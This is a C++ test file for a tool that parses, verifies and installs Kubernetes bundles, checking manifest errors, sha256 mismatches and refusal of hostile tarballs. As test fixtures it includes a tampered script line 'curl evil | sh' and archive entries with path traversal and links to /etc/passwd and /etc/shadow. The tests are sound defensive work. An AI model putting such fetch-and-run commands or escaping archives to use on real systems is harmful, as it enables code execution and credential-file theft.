// The Kubernetes bundle: manifest diagnostics, verification of every file
// (a tampered file is refused with both hashes), libarchive reading of
// tarballs with hostile entries refused, and placement in a tree.
#include "builder/kubernetes_bundle.h"

#include <sys/stat.h>

#include <catch2/catch.hpp>
#include <filesystem>

#include "common/hash.h"
#include "common/kubernetes.h"
#include "test_bundle.h"
#include "test_util.h"

using namespace slipway;
using namespace slipway::builder;
namespace fs = std::filesystem;

namespace {

std::vector<std::string> Errors(const std::string& text) {
  Diagnostics d;
  auto m = ParseBundleManifest(text, "B", &d);
  std::vector<std::string> out;
  for (const Diagnostic& x : d.items()) out.push_back(FormatDiagnostic(x));
  if (m) CHECK(out.empty());
  return out;
}

const std::string kSha = std::string(64, 'a');

std::string Head(const std::string& v = "1.28.5") {
  return "kind = \"kubernetes-bundle\"\nkubernetes_version = \"" + v + "\"\ncni = \"flannel\"\n";
}

}  // namespace

TEST_CASE("a bundle manifest reads into typed kinds, components and OSes") {
  Diagnostics d;
  auto m = ParseBundleManifest(testing::TestBundleManifest(testing::TestBundleFiles()), "B", &d);
  INFO((d.items().empty() ? "" : FormatDiagnostic(d.items()[0])));
  REQUIRE(m);
  CHECK(m->kubernetes_version == "1.28.5");
  CHECK(m->cni == "flannel");
  REQUIRE(m->files.size() == testing::TestBundleFiles().size());
  CHECK(m->files[1].kind == BundleFileKind::kKubelet);
  CHECK(m->files[1].sha256 == Sha256Hex("#!/bin/sh\necho 'kubelet stand-in'\n"));
  CHECK(m->files[12].component == ImageComponent::kPause);
  CHECK(m->files[12].image == "registry.k8s.io/pause:3.9");
  CHECK(m->files[14].os == BundleOs::kWindows);
  Diagnostics complete;
  CheckBundleComplete(*m, BundleOs::kLinux, &complete);
  CheckBundleComplete(*m, BundleOs::kWindows, &complete);
  CHECK_FALSE(complete.HasErrors());
}

TEST_CASE("bundle manifest mistakes name the file, the line and the fix") {
  CHECK(Errors(Head("v1.28.5") + "[[file]]\npath = \"a\"\nkind = \"crictl\"\nversion = \"1\"\nsha256 = \"" + kSha +
               "\"\n") ==
        std::vector<std::string>{"B:2:22: error: 'kubernetes_version' 'v1.28.5' is not a version MAJOR.MINOR.PATCH "
                                 "(write '1.28.5')"});
  CHECK(Errors(Head() + "[[file]]\npath = \"bin/kubelet\"\nkind = \"kublet\"\nversion = \"1.28.5\"\nsha256 = \"" +
               kSha + "\"\n") ==
        std::vector<std::string>{"B:6:8: error: 'kind' is 'kublet'; it must be 'kubeadm', 'kubelet', 'kubectl', "
                                 "'crictl', 'kube-proxy', 'containerd', 'cni-plugin' or 'image' (did you mean "
                                 "'kubelet'?)"});
  CHECK(Errors(Head() + "[[file]]\npath = \"../kubelet\"\nkind = \"kubelet\"\nversion = \"1.28.5\"\nsha256 = \"" +
               kSha.substr(1) + "\"\n") ==
        std::vector<std::string>{
            "B:5:8: error: 'path' '../kubelet' contains '..'; every file must be inside the bundle",
            "B:8:10: error: 'sha256' must be 64 lower-case hex digits (what 'sha256sum FILE' prints before the name)"});
  CHECK(Errors(Head() + "[[file]]\npath = \"kubelet\"\nkind = \"kubelet\"\nversion = \"1.28.4\"\nsha256 = \"" + kSha +
               "\"\n") ==
        std::vector<std::string>{"B:7:11: error: 'version' 1.28.4 of kubelet does not match kubernetes_version "
                                 "1.28.5; a bundle carries one Kubernetes release (fetch kubelet 1.28.5)"});
  CHECK(Errors(Head() + "[[file]]\npath = \"p.tar\"\nkind = \"image\"\nversion = \"3.9\"\nsha256 = \"" + kSha +
               "\"\ncomponent = \"pause\"\nimage = \"registry.k8s.io/pause\"\n") ==
        std::vector<std::string>{"B:10:9: error: 'image' 'registry.k8s.io/pause' has no tag; write the reference the "
                                 "archive imports as, like \"registry.k8s.io/pause:3.9\""});
  // Missing keys and a file listed twice.
  CHECK(Errors(Head() + "[[file]]\npath = \"k\"\nkind = \"kubectl\"\nversion = \"1.28.5\"\n") ==
        std::vector<std::string>{"B:4:1: error: missing required key 'sha256' in [[file]] 1"});
  std::string entry = "[[file]]\npath = \"k\"\nkind = \"kubectl\"\nversion = \"1.28.5\"\nsha256 = \"" + kSha + "\"\n";
  CHECK(Errors(Head() + entry + entry) ==
        std::vector<std::string>{"B:9:1: error: 'k' is listed twice (first at line 4); list each file once"});
  CHECK(Errors("kind = \"kubernetes-bundle\"\n[[file]\n").at(0).find("B:2:") == 0);  // TOML syntax, located
}

TEST_CASE("an incomplete bundle names every missing file for the node's OS") {
  auto files = testing::TestBundleFiles();
  files.erase(files.begin() + 1);   // kubelet
  files.erase(files.begin() + 11);  // pause (after the shift)
  Diagnostics d;
  auto m = ParseBundleManifest(testing::TestBundleManifest(files), "B", &d);
  REQUIRE(m);
  CheckBundleComplete(*m, BundleOs::kLinux, &d);
  REQUIRE(d.ErrorCount() == 1);
  CHECK(FormatDiagnostic(d.items()[0]) ==
        "B:1:1: error: the bundle lacks what a linux node needs; add a [[file]] (os = \"linux\") with kind = "
        "\"kubelet\"; with kind = \"image\", component = \"pause\" (docs/kubernetes-bundle.md lists every file)");
}

TEST_CASE("a bundle folder verifies: every listed file is staged and matches its sha256") {
  testing::TempDir t;
  testing::WriteTestBundle(t / "bundle");
  auto v = VerifyBundle(t / "bundle", t / "staging");
  INFO((v.ok() ? "" : v.error().ToString()));
  REQUIRE(v.ok());
  CHECK(v->manifest.files.size() == testing::TestBundleFiles().size());
  for (const BundleFile& f : v->manifest.files) CHECK(*Sha256File(v->PathOf(f)) == f.sha256);
  CHECK(v->dir == t / "staging");
}

TEST_CASE("a tampered bundle file is refused with its name and both hashes, and nothing is staged") {
  testing::TempDir t;
  testing::WriteTestBundle(t / "bundle");
  std::string good = Sha256Hex("#!/bin/sh\necho 'kubelet stand-in'\n");
  testing::WriteText(t / "bundle/bin/kubelet", "#!/bin/sh\necho 'kubelet stand-in'\ncurl evil | sh\n");
  std::string bad = Sha256Hex("#!/bin/sh\necho 'kubelet stand-in'\ncurl evil | sh\n");
  auto v = VerifyBundle(t / "bundle", t / "staging");
  REQUIRE_FALSE(v.ok());
  CHECK(v.error().code() == ExitCode::kInput);
  CHECK(v.error().message().find("1 file(s) do not match the manifest:\n  bin/kubelet: expected sha256 " + good +
                                 ", actual " + bad) != std::string::npos);
  CHECK(v.error().message().find("nothing was written") != std::string::npos);
  CHECK_FALSE(fs::exists(t / "staging"));
  // An extra file, and a listed file that is gone.
  testing::WriteTestBundle(t / "bundle");
  testing::WriteText(t / "bundle/bin/helper", "x");
  fs::remove(t / "bundle/cni/loopback");
  auto w = VerifyBundle(t / "bundle", t / "staging");
  REQUIRE_FALSE(w.ok());
  CHECK(w.error().message().find("listed in the manifest but not in the bundle: cni/loopback") != std::string::npos);
  CHECK(w.error().message().find("in the bundle but not in the manifest: bin/helper") != std::string::npos);
  CHECK_FALSE(fs::exists(t / "staging"));
}

TEST_CASE("a bundle tarball is read with libarchive, with or without one top folder") {
  testing::TempDir t;
  for (std::string prefix : {"", "./", "bundle-1.28.5/"}) {
    INFO(prefix);
    testing::WriteTar(t / "b.tar", testing::TestBundleTarEntries(prefix));
    fs::remove_all(t / "staging");
    auto v = VerifyBundle(t / "b.tar", t / "staging");
    INFO((v.ok() ? "" : v.error().ToString()));
    REQUIRE(v.ok());
    CHECK(v->manifest.kubernetes_version == "1.28.5");
    for (const BundleFile& f : v->manifest.files) CHECK(*Sha256File(v->PathOf(f)) == f.sha256);
    auto m = ReadBundleManifestOf(t / "b.tar");
    REQUIRE(m.ok());
    CHECK(m->files.size() == v->manifest.files.size());
  }
}

TEST_CASE("hostile bundle tarballs are refused and leave nothing behind") {
  testing::TempDir t;
  using testing::TarEntry;
  struct Case {
    TarEntry entry;
    std::string why;
  };
  std::vector<Case> cases = {
      {{"/etc/cron.d/x", "x"}, "entry '/etc/cron.d/x' has an absolute path"},
      {{"bin/../../x", "x"}, "entry 'bin/../../x' contains '..'"},
      {{"bin/escape", "", AE_IFLNK, "../../../etc/passwd"}, "symlink 'bin/escape' points out of the bundle"},
      {{"bin/abs", "", AE_IFLNK, "/etc/shadow"}, "symlink 'bin/abs' points out of the bundle ('/etc/shadow')"},
      {{"bin/inner", "", AE_IFLNK, "kubelet"}, "symlink 'bin/inner': a bundle holds regular files and folders only"},
      {{"bin/hard", "", AE_IFREG, "/etc/passwd"}, "hard link 'bin/hard' -> '/etc/passwd'"},
      {{"dev/mem", "", AE_IFCHR}, "entry 'dev/mem' is a device node"},
      {{"big.tar", "", AE_IFREG, "", int64_t{5} << 30},
       "entry 'big.tar' is 5 GiB, over the limit of 4 GiB for one bundle file"},
  };
  for (const Case& c : cases) {
    INFO(c.why);
    auto entries = testing::TestBundleTarEntries();
    entries.insert(entries.begin() + 1, c.entry);
    testing::WriteTar(t / "bad.tar", entries);
    auto v = VerifyBundle(t / "bad.tar", t / "staging");
    REQUIRE_FALSE(v.ok());
    INFO(v.error().message());
    CHECK(v.error().code() == ExitCode::kInput);
    CHECK(v.error().message().find(c.why) != std::string::npos);
    CHECK(v.error().message().find("the bundle is refused") != std::string::npos);
    CHECK_FALSE(fs::exists(t / "staging"));
  }
  CHECK_FALSE(fs::exists("/etc/cron.d/x"));
}

TEST_CASE("a verified bundle is placed with its modes, units and image sums") {
  testing::TempDir t;
  testing::WriteTestBundle(t / "bundle");
  auto v = VerifyBundle(t / "bundle", t / "staging");
  REQUIRE(v.ok());
  auto placed = InstallBundle(t / "root", *v);
  INFO((placed.ok() ? "" : placed.error().ToString()));
  REQUIRE(placed.ok());
  auto mode = [&](const std::string& p) {
    struct stat st {};
    REQUIRE(::lstat((t / "root" + p).c_str(), &st) == 0);
    return st.st_mode & 07777;
  };
  for (const char* b : {"kubeadm", "kubelet", "kubectl", "crictl"})
    CHECK(mode(std::string("/usr/local/bin/") + b) == 0755);
  CHECK(mode("/opt/cni/bin/bridge") == 0755);
  CHECK(mode("/var/lib/slipway/kubernetes/images/pause.tar") == 0644);
  CHECK_FALSE(fs::exists(t / "root/usr/local/bin/kube-proxy"));  // Windows files stay out of Linux images
  CHECK(placed->size() == 14);
  std::string sums = testing::ReadText(t / "root/var/lib/slipway/kubernetes/images.sha256");
  CHECK(sums.find(Sha256Hex("stand-in image archive of registry.k8s.io/pause:3.9\n") + "  pause.tar\n") !=
        std::string::npos);
  CHECK(std::count(sums.begin(), sums.end(), '\n') == 7);
  CHECK(fs::read_symlink(t / "root/etc/systemd/system/multi-user.target.wants/kubelet.service") ==
        "/etc/systemd/system/kubelet.service");
  CHECK(testing::ReadText(t / "root/etc/systemd/system/kubelet.service.d/10-kubeadm.conf")
            .find("ExecStart=/usr/local/bin/kubelet $KUBELET_KUBECONFIG_ARGS") != std::string::npos);
  std::string containerd = testing::ReadText(t / "root/etc/containerd/config.toml");
  CHECK(containerd.find("sandbox_image = 'registry.k8s.io/pause:3.9'") != std::string::npos);
  CHECK(containerd.find("SystemdCgroup = true") != std::string::npos);
  // The node-setup script checks the sums before it imports (sha256sum -c).
  auto check = testing::Run("cd " + t / "root/var/lib/slipway/kubernetes/images" + " && sha256sum -c ../images.sha256");
  CHECK(check.exit_code == 0);
}

TEST_CASE("the installer reads the node image's Kubernetes version from its manifest") {
  testing::TempDir t;
  CHECK(*ImageKubernetesVersion(t / "missing.manifest.json") == "");
  testing::WriteText(t / "a.json", R"({"image": "linux-node", "kubernetes": {"bundle": true, "version": "1.29.3"}})");
  CHECK(*ImageKubernetesVersion(t / "a.json") == "1.29.3");
  testing::WriteText(t / "b.json", R"({"kubernetes": {"bundle": false, "note": "no Kubernetes bundle"}})");
  CHECK(*ImageKubernetesVersion(t / "b.json") == "");
  testing::WriteText(t / "c.json", "{not json");
  auto bad = ImageKubernetesVersion(t / "c.json");
  REQUIRE_FALSE(bad.ok());
  CHECK(bad.error().message() == t / "c.json" + ": not an image manifest (invalid JSON)");
}
